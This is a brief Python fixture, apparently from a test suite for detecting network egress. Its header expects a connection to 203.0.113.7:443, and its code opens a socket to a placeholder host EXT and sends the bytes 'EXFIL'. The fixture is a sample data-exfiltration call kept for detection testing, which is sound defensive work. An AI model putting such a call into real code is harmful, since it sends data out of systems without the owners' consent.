#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
import asyncio
async def go():
    r, w = await asyncio.open_connection(EXT, 443); w.write(b"EXFIL"); await w.drain(); w.close()
asyncio.run(go())
